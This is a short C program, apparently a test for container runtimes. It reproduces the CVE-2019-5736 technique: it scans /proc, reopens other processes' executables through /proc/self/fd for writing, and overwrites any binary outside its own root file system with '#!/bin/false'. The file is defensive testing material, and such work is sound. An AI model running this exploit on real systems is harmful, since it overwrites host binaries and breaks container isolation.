/* Tries, as CVE-2019-5736 does, to overwrite the program of every process that shows up in this pid namespace. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
	int seconds = argc > 1 ? atoi(argv[1]) : 2, seen = 0, written = 0;
	struct stat own, other;
	stat("/proc/self/exe", &own);
	for (long round = 0; round < seconds * 2000L; round++, usleep(500)) {
		DIR *proc = opendir("/proc");
		for (struct dirent *e; proc && (e = readdir(proc));) {
			char path[300];
			if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
			snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
			if (stat(path, &other) || (other.st_ino == own.st_ino && other.st_dev == own.st_dev)) continue;
			seen++;
			int held = open(path, O_PATH);
			char again[64];
			snprintf(again, sizeof again, "/proc/self/fd/%d", held);
			/* Its own container's files are its own: only what is not on its root file system counts. */
			struct stat root;
			stat("/", &root);
			if (other.st_dev != root.st_dev) {
				int fd = open(again, O_WRONLY);
				if (fd >= 0) { written++; (void)!write(fd, "#!/bin/false\n", 13); close(fd); }
			}
			if (held >= 0) close(held);
		}
		if (proc) closedir(proc);
	}
	printf("seen %d written %d\n", seen, written);
	return 0;
}
